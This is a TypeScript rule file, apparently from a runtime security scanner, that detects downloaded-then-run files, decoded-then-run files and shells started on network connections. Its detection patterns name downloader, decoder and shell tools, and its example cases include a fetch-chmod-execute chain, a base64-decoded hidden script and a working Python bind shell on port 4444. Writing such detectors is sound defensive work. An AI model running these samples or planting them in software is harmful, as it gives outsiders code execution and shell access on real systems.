import type { Pattern, Rule } from '../rule.ts';
import { GOES_OUT } from './ends.ts';

/** Where installers put what they install: to be run is what it is for. */
const INSTALLED: Pattern = {
  text: /\/(site-packages|dist-packages|node_modules|\.?venv|\.cargo|\.rustup|__pycache__)\/|^\/(dev|proc)\//,
};
const WRITES_FILE: Pattern = { capability: ['file.write'], except: [INSTALLED] };
const MAKES_PROGRAM: readonly Pattern[] = [{ capability: ['file.permission'] }];
const RUNS: readonly Pattern[] = [{ capability: ['process.spawn'] }];
const DOWNLOADER = /^(\S*\/)?(curl|wget|fetch|aria2c|lwp-download|ftp|tftp|scp)\b/;
const DECODER =
  /^(\S*\/)?((base(64|32)|gbase64)\s.{0,40}(-d|-D|--decode)|xxd\s.{0,20}-r|openssl\s+(enc|base64)\s.{0,80}-d|uudecode|basenc\s.{0,40}-d)/;
const DECODES =
  /b(64|32|16|85)decode|a2b_\w+|fromhex|unhexlify|\batob\(|['"](base64|hex)['"]\s*\)|\bbase(64|32)\s+(-\w\s+)*(-d|-D|--decode)|xxd\s+-r|openssl\s+enc\s+-d|codecs\.decode|(zlib|lzma|bz2|gzip)\.decompress|\bXOR\b|\^\s*(0x\w+|key|k)\b/i;
const SHELL_ALONE = /^(\S*\/)?(ba|da|z|k|a|fi)?sh(\s+(-[ilp]|--login|--norc|--noprofile))*$/;

/** What came from elsewhere and then ran: each step is ordinary alone, and was seen, in this order, in one run. */
export const chainedExecutionRules = {
  'fetched-and-run': {
    severity: 'high',
    title: 'Downloaded a file and ran it',
    capability: 'process.spawn',
    why: 'What runs was decided by another machine; it was seen to be fetched, kept and started.',
    cwe: ['CWE-494'],
    attack: ['T1105', 'T1204.002'],
    message: '{target}: a file that was written after something was fetched.',
    remedy: 'Download, read, check a hash, and only then run; or install a package by its name and version.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'wget -q http://cdn.example/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool',
        run: {
          events: [
            { capability: 'network.connect', operation: 'connect', target: 'cdn.example:80', line: 1, process: 3 },
            { capability: 'file.write', operation: 'openat', target: '/tmp/tool', line: 1, process: 3 },
            { capability: 'file.permission', operation: 'fchmodat', target: '/tmp/tool', line: 2, process: 4 },
            { capability: 'process.spawn', operation: 'execve', target: '/tmp/tool', line: 3, process: 5 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'wget -q http://cdn.example/data.csv -O /tmp/data.csv\npython3 plot.py /tmp/data.csv',
        run: {
          events: [
            { capability: 'network.connect', operation: 'connect', target: 'cdn.example:80', line: 1, process: 3 },
            { capability: 'file.write', operation: 'openat', target: '/tmp/data.csv', line: 1, process: 3 },
            {
              capability: 'process.spawn',
              operation: 'execve',
              target: 'python3 plot.py /tmp/data.csv',
              line: 2,
              process: 4,
            },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'fetches', patterns: [GOES_OUT] },
            { as: 'writes a file', patterns: [WRITES_FILE], by: ['process'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'writes a file' },
          ],
        },
        // The shell opens what it redirects to before the downloader starts.
        {
          steps: [
            { as: 'opens a file', patterns: [WRITES_FILE] },
            { as: 'fetches', patterns: [{ capability: ['process.spawn'], text: DOWNLOADER }], by: ['process'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], to: 'opens a file', optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'opens a file' },
          ],
        },
      ],
    },
  },
  'decoded-and-run': {
    severity: 'high',
    title: 'Decoded a file and ran it',
    capability: 'process.spawn',
    why: 'A program that is carried in an encoding is not meant to be read before it runs.',
    cwe: ['CWE-506'],
    attack: ['T1140', 'T1027.009'],
    message: '{target}: a file that came out of a decoder.',
    remedy: 'Keep programs in files of their own, as they are.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'base64 -d blob.txt > /tmp/.job\nsh /tmp/.job',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/.job', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'base64 -d blob.txt', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh /tmp/.job', line: 2, process: 4 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'base64 -d logo.txt > logo.png\nsh build.sh logo.png',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/work/logo.png', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'base64 -d logo.txt', line: 1, process: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh build.sh logo.png', line: 2, process: 4 },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'writes what it decodes', patterns: [{ ...WRITES_FILE, nearby: DECODES }] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'writes what it decodes' },
          ],
        },
        {
          steps: [
            { as: 'decodes', patterns: [{ capability: ['process.spawn'], text: DECODER }] },
            { as: 'writes a file', patterns: [WRITES_FILE], by: ['tree'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'writes a file' },
          ],
          within: 2_000,
        },
        {
          steps: [
            { as: 'opens a file', patterns: [WRITES_FILE] },
            { as: 'decodes into it', patterns: [{ capability: ['process.spawn'], text: DECODER }], by: ['process'] },
            { as: 'makes it a program', patterns: MAKES_PROGRAM, by: ['path'], to: 'opens a file', optional: true },
            { as: 'runs it', patterns: RUNS, by: ['program'], to: 'opens a file' },
          ],
        },
      ],
    },
  },
  'shell-on-a-connection': {
    severity: 'critical',
    title: 'Opened a connection and started a shell on it',
    capability: 'process.spawn',
    why: 'A shell without a command takes its orders from where its input comes from.',
    cwe: ['CWE-506'],
    attack: ['T1059', 'T1571'],
    message: '{target}: a shell without a command, started by a process that had a connection.',
    remedy: 'Do not run it.',
    independent: true,
    examples: {
      found: {
        language: 'python',
        code: "import os, socket\n\ns = socket.create_server(('', 4444))\nc, _ = s.accept()\nos.dup2(c.fileno(), 0)\nos.execv('/bin/sh', ['sh', '-i'])",
        run: {
          events: [
            { capability: 'network.listen', operation: 'bind', target: '0.0.0.0:4444', line: 3 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh -i', line: 6 },
          ],
        },
      },
      ordinary: {
        language: 'python',
        code: "import http.server, subprocess\n\nserver = http.server.HTTPServer(('127.0.0.1', 8080), http.server.SimpleHTTPRequestHandler)\nsubprocess.run('date | cut -c1-3', shell=True)",
        run: {
          events: [
            { capability: 'network.listen', operation: 'bind', target: '127.0.0.1:8080', line: 3 },
            {
              capability: 'process.spawn',
              operation: 'execve',
              target: "/bin/sh -c 'date | cut -c1-3'",
              line: 4,
              process: 3,
            },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'python3' },
            { pid: 3, parent: 2, command: 'sh' },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            {
              as: 'has a connection',
              patterns: [{ capability: ['network.connect', 'network.listen'], except: [{ place: ['unix-socket'] }] }],
            },
            { as: 'starts a shell', patterns: [{ capability: ['process.spawn'], text: SHELL_ALONE }], by: ['process'] },
          ],
        },
      ],
    },
  },
} as const satisfies Record<string, Rule>;
